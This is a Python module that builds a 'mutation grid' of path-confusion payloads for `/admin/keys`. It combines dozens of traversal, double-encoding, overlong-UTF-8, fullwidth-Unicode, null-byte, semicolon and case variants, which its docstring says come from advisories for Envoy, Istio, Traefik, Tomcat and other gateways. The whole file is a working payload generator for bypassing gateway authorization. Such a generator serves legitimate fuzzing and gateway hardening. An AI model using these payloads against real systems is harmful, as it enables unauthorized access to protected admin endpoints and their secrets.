"""The mutation grid: every way known to spell `/admin/keys` so that a gateway reads it as something else.

Gathered from the advisories of Envoy, Istio, Traefik, Heimdall, Caddy, OPA, oauth2-proxy, Spring and Tomcat.
"""

from collections.abc import Iterator
from itertools import product


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


ADVISORIES = _words(r"""
//admin/keys /./admin/keys /public/../admin/keys /public/..;/admin/keys /public/.%2e/admin/keys
/public/%2e%2e/admin/keys /public/%2e%2e%2fadmin/keys /public/%252e%252e/admin/keys
/public/..%c0%af../admin/keys /public/..%5cadmin/keys /public\..\admin\keys /admin%2fkeys
/admin%2Fkeys /admin%5ckeys /%61dmin/keys /%2561dmin/keys /ADMIN/keys /Admin/Keys /admin/keys/
/admin/keys. /admin/keys.. /admin/keys%20 /admin/keys%00 /admin/keys%0a /admin/keys;x=y
/admin;x/keys /admin/keys?x=/public/ /public/x?/../../admin /admin/keys#/public
/admin/keys%23/public /public/x%3f/../admin //evil/admin/keys http://h/admin/keys http:/admin *
admin/keys /admın/keys /%ef%bc%8e%ef%bc%8e/admin /admin/keys%09 /admin/keys%2e /api../admin
/public/x/.. /public/%2e /public/../ADMIN/keys /user/..%2fadmin/keys /public/..%252fadmin/keys
/public/..%255cadmin/keys /.;/admin/keys /;/admin/keys /public;/../admin/keys /admin/./keys
/admin/x/../keys /admin//keys /admin/keys// /%2e/admin/keys /public/%2E%2E/admin/keys
/public/..%00/admin/keys /%00/admin/keys /public/....//admin/keys /admin%20/keys /%20/admin/keys
/admin%09/keys /public/%c0%ae%c0%ae/admin/keys /public/%u002e%u002e/admin/keys /admin%3b/keys
/admin%3F/public /adm%69n/keys /adm%2569n/keys /adm%252569n/keys /%41%44%4d%49%4e/keys
/adm%c4%b1n/keys /adm%c4%b0n/keys /%ef%bd%81dmin/keys /admin%ef%bc%8fkeys
/public/%ef%bc%8e%ef%bc%8e/admin /admin%e2%80%8b/keys /%ef%bc%8561dmin/keys
/public/..%ef%bc%9b/admin /admin%ef%bc%9fx /admin%c2%a0/keys /public/%e2%80%a5/admin/keys
/adm%e2%80%8cin/keys /public/.%e2%80%8c./admin/keys
""")

LEADS = _words(r"""
/ // /./ /public/../ /public/..;/ /public/%2e%2e/ /public/%252e%252e/ /public/..%2f /public/..%5c
/public;x/../ /public/x%3f/../ /;x/ /api../ /public/%ef%bc%8e%ef%bc%8e/ /public/
""")

NAMES = _words(r"""
admin ADMIN Admin %61dmin %2561dmin %252561dmin admin;x admin%3bx admin. admin.. admin%20 adm%C4%B1n
adm%C4%B0n %EF%BD%81dmin admin%00 admin%3f admin%23 admin%25 admin%ef%bc%9fx .admin public
""")

JOINTS = _words(r"""
/ // /./ %2f %252f %5c /;/ %ef%bc%8f /x/../
""")

TAILS = _words(r"""
keys keys/ keys. keys%20 keys%00 keys;x=y keys?x=/public/ keys#/public keys%23/public keys%2e Keys
keys/.. %6Beys
""")


def grid() -> Iterator[str]:
    """Every lead, name, joint and tail together, then what the advisories add."""
    for parts in product(LEADS, NAMES, JOINTS, TAILS):
        yield "".join(parts)
    yield from ADVISORIES
